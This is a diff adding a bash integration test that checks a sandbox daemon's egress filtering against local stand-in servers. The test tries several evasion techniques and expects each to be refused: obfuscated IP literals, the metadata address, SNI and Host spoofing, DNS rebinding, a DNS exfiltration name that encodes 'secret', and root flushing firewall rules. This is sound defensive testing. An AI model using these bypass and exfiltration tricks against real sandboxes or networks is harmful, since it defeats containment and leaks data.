@@ -1,0 +1,212 @@
+#!/usr/bin/env bash
+# SPDX-License-Identifier: Apache-2.0
+# Egress enforced on the host (issue 11; space-egress(5), ARCHITECTURE.md decision 10). Servers on 127.0.32.2
+# (allowed), 127.0.32.3 (denied) and 127.0.32.4 (a PyPI simple index), started here by egress-servers.py and named
+# in a hosts file the daemon is given (egress_hosts_file, egress_resolve = hosts: no lookup leaves the machine).
+# From inside a real sandbox (the seed template): an allowed HTTPS name through curl and the proxy, through a
+# plain Python socket without it (transparent capture), an allowed HTTP name, `pip download` from the local
+# index. Refused and logged: a name in no profile, an allowed name resolving to a denied address, IP literals
+# of a denied address in every spelling, an SNI or Host other than the target, a name whose address changes
+# (rebinding), DNS questions for names not allowed, the daemon's own API port, UDP, denies beating allows,
+# root in the guest removing the capture; the server's own counters show nothing ever reached 127.0.32.3.
+. "$(dirname "$0")/lib.sh"
+
+space_env_setup
+
+# addresses of their own, so that servers a benchmark or a developer left on the defaults do not clash
+A=127.0.32.2 D=127.0.32.3 P=127.0.32.4
+EG=$TEST_TMP/egress
+python3 "$TESTS_DIR/egress-servers.py" --dir "$EG" --hosts-out "$TEST_TMP/egress.hosts" \
+        --allowed $A --denied $D --pypi $P --control 127.0.32.9 \
+        --host allowed.test=$A --host other.test=$D --host denied.test=$D --host pypi.test=$P --host rebind.test=$A \
+        >"$TEST_TMP/egress.json" 2>"$TEST_TMP/egress-servers.log" &
+track_pid $!
+wait_for 30 test -s "$TEST_TMP/egress.json" || { diag_file "$TEST_TMP/egress-servers.log" 20; bail_out "egress-servers.py did not start"; }
+CA=$(json "$TEST_TMP/egress.json" 'd["ca"]')
+STATS=$(json "$TEST_TMP/egress.json" 'd["stats"]')
+denied_connections() { curl -s "$STATS" | python3 -c 'import json,sys; print(json.load(sys.stdin)["connections"].get("127.0.32.3", 0))'; }
+
+tcp_config \
+        "egress_hosts_file = $TEST_TMP/egress.hosts" \
+        "egress_resolve = hosts" \
+        "egress_profile = web: allow allowed.test, $A" \
+        "egress_profile = pypi: allow pypi.test, $P" \
+        "egress_profile = other: allow other.test" \
+        "egress_profile = rebind: allow rebind.test" \
+        "egress_profile = nope: deny allowed.test" \
+        "egress_profile = self: allow 127.0.0.1"
+start_daemon_tcp
+
+run timeout -k 10 900 "$SPACECTL_BIN" template build "$TOP_SRCDIR/templates/seed"
+check_eq "template build templates/seed" 0 "$RC" || { last_diag; bail_out "no seed template"; }
+
+create_sandbox SB seed --egress web --egress pypi --egress other --egress rebind --egress self
+check_match "a sandbox with the web, pypi, other, rebind and self profiles" "$ID_RE" "$SB" || bail_out "no sandbox"
+check_rc "the test CA goes into the sandbox" 0 sc cp "$CA" "$SB:/tmp/ca.pem"
+
+# gx CMD...: runs in the sandbox as root; output in $OUT, $ERR, status in $RC
+gx() { run timeout -k 5 90 "$SPACECTL_BIN" exec -u root "$SB" -- "$@"; }
+# py CODE: python3 -c CODE in the sandbox
+py() { gx python3 -c "$1"; }
+
+# ---- the way out that programs know
+gx sh -c 'echo $HTTPS_PROXY $http_proxy $NO_PROXY'
+check_match "every process gets the proxy variables" '^http://127\.0\.0\.1:[0-9]+ http://127\.0\.0\.1:[0-9]+ .*localhost' "$(cat "$OUT")"
+gx cat /etc/resolv.conf
+check_contains "the guest's resolver is the agent's DNS stub" "nameserver 127.0.0.53" "$OUT"
+
+# ---- allowed: HTTPS through the proxy, a plain socket without it, HTTP, pip
+gx curl -fsS --max-time 30 --cacert /tmp/ca.pem https://allowed.test:8443/
+check_contains "curl https://allowed.test through the proxy" "hello from $A host=allowed.test" "$OUT" || last_diag
+gx curl -fsS --max-time 30 http://allowed.test:8080/
+check_contains "curl http://allowed.test through the proxy" "hello from $A host=allowed.test" "$OUT" || last_diag
+py 'import socket, ssl
+ctx = ssl.create_default_context(cafile="/tmp/ca.pem")
+with socket.create_connection(("allowed.test", 8443), timeout=30) as s, ctx.wrap_socket(s, server_hostname="allowed.test") as t:
+    t.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
+    data = b""
+    while (chunk := t.recv(4096)):
+        data += chunk
+    print(data.decode(errors="replace"))'
+check_contains "a plain Python socket, no proxy: captured and allowed" "hello from $A host=allowed.test" "$OUT" || last_diag
+gx env -u HTTP_PROXY -u http_proxy curl -sS --max-time 30 http://allowed.test:8080/
+check_contains "curl without the proxy: captured and allowed" "hello from $A host=allowed.test" "$OUT" || last_diag
+py "import socket
+s = socket.create_connection(('$A', 9000), timeout=5)
+print('local', s.getpeername())"
+check_rc "the guest's own $A is its own loopback (nothing listens there)" 1 test "$RC" -eq 0
+gx sh -c 'cd /tmp && pip download --no-cache-dir --disable-pip-version-check --trusted-host pypi.test --index-url http://pypi.test:8080/simple/ spacedemo 2>&1 && ls /tmp/*.whl'
+check_contains "pip download from the local index, through the pypi profile" "spacedemo-1.0-py3-none-any.whl" "$OUT" || last_diag
+
+# ---- refused
+gx curl -fsS --max-time 30 --cacert /tmp/ca.pem https://denied.test:8443/
+SAID=$(cat "$ERR" "$OUT")
+check_rc "a name in no profile: curl fails" 0 test "$RC" -ne 0
+check_contains "... the proxy says why (403)" "403" "$SAID"
+gx curl -fsS --max-time 30 --cacert /tmp/ca.pem https://other.test:8443/
+check_rc "other.test is allowed by name but resolves to $D, which no IP rule opens: refused" 0 test "$RC" -ne 0
+for lit in $D 2130714627 0177.0.040.3 0x7f002003 0x7f.0x2003 "[::ffff:$D]" '[::1]'; do
+        gx curl -fsS --max-time 20 -k "https://$lit:8443/"
+        check_rc "IP literal $lit through the proxy: refused" 0 test "$RC" -ne 0
+done
+py 'import socket
+for a in ("127.0.32.3", "::ffff:127.0.32.3", "169.254.169.254", "10.0.0.1", "2130714627"):
+    try:
+        socket.create_connection((a, 8443), timeout=10).recv(1)
+        print(a, "connected")
+    except OSError as e:
+        print(a, "refused", e.__class__.__name__)'
+check_eq "literals without the proxy: none gets through" 0 "$(grep -c connected <<<"$OUT")" || last_diag
+gx curl -fsS --max-time 30 --cacert /tmp/ca.pem --connect-to allowed.test:8443:denied.test:8443 https://allowed.test:8443/
+check_rc "CONNECT to a name in no profile with SNI allowed.test: refused" 0 test "$RC" -ne 0
+py 'import socket, ssl
+ctx = ssl.create_default_context(cafile="/tmp/ca.pem"); ctx.check_hostname = False
+s = socket.create_connection(("allowed.test", 8443), timeout=30)
+try:
+    t = ctx.wrap_socket(s, server_hostname="other.test"); t.sendall(b"GET / HTTP/1.0\r\n\r\n"); print("got", t.recv(100))
+except OSError as e:
+    print("refused", e.__class__.__name__)'
+check_contains "SNI other.test on a connection to allowed.test: refused" "refused" "$OUT" || last_diag
+py 'import socket
+s = socket.create_connection(("allowed.test", 8080), timeout=30)
+s.sendall(b"GET / HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n")
+try:
+    d = s.recv(4096); print("got", d[:60])
+except OSError as e:
+    print("refused", e.__class__.__name__)'
+check_match "Host other.test on a connection to allowed.test: nothing comes back" "refused|got b''" "$(cat "$OUT")" || last_diag
+
+# rebinding: rebind.test resolves to $A (opened by web's IP rule), then to $D (opened by none)
+gx curl -fsS --max-time 30 http://rebind.test:8080/
+check_contains "rebind.test at $A: allowed" "hello from $A host=rebind.test" "$OUT" || last_diag
+grep -v 'rebind\.test' "$TEST_TMP/egress.hosts" >"$TEST_TMP/hosts.new"
+echo "$D rebind.test" >>"$TEST_TMP/hosts.new"
+mv "$TEST_TMP/hosts.new" "$TEST_TMP/egress.hosts"
+gx curl -fsS --max-time 30 http://rebind.test:8080/
+check_rc "after rebind.test moves to $D: refused through the proxy" 0 test "$RC" -ne 0
+py 'import socket
+try:
+    print(socket.getaddrinfo("rebind.test", 8080, socket.AF_INET))
+except OSError as e:
+    print("nxdomain", e)'
+check_contains "... and the DNS stub no longer answers it" "nxdomain" "$OUT"
+
+# DNS cannot carry data out
+py 'import socket
+for n in ("c2VjcmV0.exfil.example", "allowed.test", "denied.test"):
+    try:
+        print(n, socket.getaddrinfo(n, 443, socket.AF_INET)[0][4][0])
+    except OSError as e:
+        print(n, "nxdomain")'
+check_contains "DNS: a name in no profile is NXDOMAIN" "c2VjcmV0.exfil.example nxdomain" "$OUT"
+check_contains "... as is denied.test" "denied.test nxdomain" "$OUT"
+check_match "... allowed.test answers (a stand-in for the host's loopback)" "allowed.test 198\.1[89]\." "$(cat "$OUT")"
+
+# the daemon's own API, even with 127.0.0.1 allowed by profile self
+gx curl -fsS --max-time 20 "http://127.0.0.1:$API_PORT/v1/version"
+check_rc "the daemon's API port through the proxy: refused" 0 test "$RC" -ne 0
+py "import socket
+try:
+    socket.create_connection(('10.0.0.1', $API_PORT), timeout=5).recv(1); print('connected')
+except OSError as e:
+    print('refused')"
+check_contains "... and captured" "refused" "$OUT"
+
+# UDP has no way out but DNS
+py 'import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
+try:
+    s.sendto(b"x" * 100, ("8.8.8.8", 53)); print("sent", s.recv(10))
+except OSError as e:
+    print("no-udp", e.__class__.__name__)'
+check_contains "UDP to anywhere but the stub: no route" "no-udp" "$OUT"
+
+# root in the guest removes the capture: connectivity is lost, nothing widens
+gx sh -c 'nft flush ruleset 2>/dev/null; ip route del default 2>/dev/null; iptables -t nat -F 2>/dev/null; true'
+py 'import socket
+try:
+    socket.create_connection(("127.0.32.3", 8443), timeout=5).recv(1); print("connected")
+except OSError as e:
+    print("refused", e.__class__.__name__)'
+check_contains "root removed the capture: a direct connection goes nowhere" "refused" "$OUT"
+gx curl -fsS --max-time 20 -k https://$D:8443/
+check_rc "... and the proxy still refuses $D" 0 test "$RC" -ne 0
+
+check_eq "nothing ever connected to the denied server" 0 "$(denied_connections)"
+
+# ---- denies beat allows: the same name with the nope profile added
+create_sandbox SB2 seed --egress web --egress nope
+check_match "a sandbox with web and nope (deny allowed.test)" "$ID_RE" "$SB2"
+sc cp "$CA" "$SB2:/tmp/ca.pem" >/dev/null 2>&1
+run timeout -k 5 60 "$SPACECTL_BIN" exec -u root "$SB2" -- curl -fsS --max-time 20 --cacert /tmp/ca.pem https://allowed.test:8443/
+check_rc "allowed.test denied by profile nope beats web's allow" 0 test "$RC" -ne 0
+
+# ---- profile selection by header over TCP
+API_KEY=$(mint_key t32) || bail_out "cannot mint an API key"
+kreq POST /v1/sandboxes -H 'Content-Type: application/json' -H 'X-Space-Egress-Profiles: pypi' -d '{"template": "seed"}'
+check_status "an authenticated create with X-Space-Egress-Profiles: pypi" 202
+SB3=$(json "$OUT" 'd["sandbox"]["id"]'); track_sandbox "$SB3"
+wait_for 120 sh -c "[ \"\$('$SPACECTL_BIN' inspect $SB3 --json 2>/dev/null | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"state\"])')\" = running ]"
+run timeout -k 5 60 "$SPACECTL_BIN" exec -u root "$SB3" -- curl -fsS --max-time 20 http://pypi.test:8080/simple/
+check_contains "X-Space-Egress-Profiles: pypi reaches the index" "spacedemo" "$OUT"
+run timeout -k 5 60 "$SPACECTL_BIN" exec -u root "$SB3" -- curl -fsS --max-time 20 http://allowed.test:8080/
+check_rc "... and not allowed.test" 0 test "$RC" -ne 0
+
+# ---- the audit log
+check_rc "spacectl egress log" 0 sc egress log "$SB"
+check_match "the log has allowed connections with their bytes" ' end .*allowed\.test.* up=[1-9][0-9]* down=[1-9]' "$(cat "$OUT")"
+check_match "... denials with a reason" ' deny .*denied\.test' "$(cat "$OUT")"
+check_match "... DNS denials" ' dns .*c2vjcmv0\.exfil\.example' "$(cat "$OUT")"
+check_match "... the API port" " deny .*:$API_PORT " "$(cat "$OUT")"
+check_rc "egress log --json -n 3" 0 sc egress log --json -n 3 "$SB"
+check_eq "... prints three JSON lines" 3 "$(wc -l <"$OUT")"
+kreq GET "/v1/sandboxes/$SB/egress/log?after=0&limit=2"
+check_status "GET .../egress/log over TCP" 200
+check_eq "... limit=2: two entries" 2 "$(json "$OUT" 'len(d["entries"])')"
+kreq GET "/v1/sandboxes/$SB/egress/log?after=-1"
+check_status "... a bad 'after' is a 400" 400 invalid_argument
+req GET "/v1/sandboxes/$SB/egress/log"
+check_eq "... and needs a key" 401 "$STATUS"
+check_rc "egress log of an unknown sandbox: exit 1" 1 sc egress log nosuchsandbox
+
+done_testing
